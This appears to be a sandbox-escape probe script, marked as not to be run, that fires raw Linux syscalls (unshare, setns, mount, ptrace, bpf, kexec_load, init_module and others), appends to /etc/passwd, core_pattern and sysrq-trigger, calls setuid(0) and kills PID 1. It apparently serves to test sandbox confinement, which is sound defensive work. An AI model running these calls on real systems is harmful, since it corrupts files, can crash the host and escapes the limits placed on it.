# ---
# about: makes the calls that lead out of a sandbox (unshare, setns, mount, ptrace, bpf, io_uring, keyctl and more)
# stock: "not run: would harm the machine that runs it"
# ---

# %% mean
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
numbers = {
    "ptrace": (101, 16, 1), "bpf": (321, 0, 0, 0), "io_uring_setup": (425, 4, bytes(120)),
    "keyctl": (250, 0, -3, 1), "add_key": (248, b"user", b"a", b"b", 1, -3), "setns": (308, 0, 0),
    "unshare": (272, 0x10000000), "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0),
    "umount2": (166, b"/usr", 2), "pivot_root": (155, b"/", b"/tmp"), "chroot": (161, b"/tmp"),
    "process_vm_readv": (310, 1, 0, 0, 0, 0, 0), "pidfd_getfd": (438, 3, 3, 0),
    "userfaultfd": (323, 0), "perf_event_open": (298, bytes(128), 0, -1, -1, 0),
    "open_by_handle_at": (304, 3, bytes(16), 0), "kexec_load": (246, 0, 0, 0, 0),
    "init_module": (175, 0, 0, b""), "clone3": (435, bytes(88), 88),
    "clone of namespaces": (56, 0x10000000 | 17, 0, 0, 0, 0), "personality": (135, 0x0040000),
    "settimeofday": (164, 0, 0), "sethostname": (170, b"evil", 4), "swapon": (167, b"/x", 0),
    "mknod": (133, b"/tmp/sda", 0o60666, 0x0800), "memfd_secret": (447, 0),
}
done = []
for name, (number, *arguments) in numbers.items():
    result = libc.syscall(number, *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
    if name == "clone of namespaces" and result == 0:
        os._exit(0)
    if result >= 0:
        done.append(name)
for path in ("/etc/passwd", "/usr/bin/evil", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"):
    try:
        open(path, "a").write("x")
        done.append(path)
    except OSError:
        pass
for what, call in (("setuid", lambda: os.setuid(0)), ("kill 1", lambda: os.kill(1, 9)),
                   ("chroot", lambda: os.chroot("/tmp")), ("nice", lambda: os.nice(-5))):
    try:
        call()
        done.append(what)
    except OSError:
        pass
print("ATTACK RAN, allowed:", done)
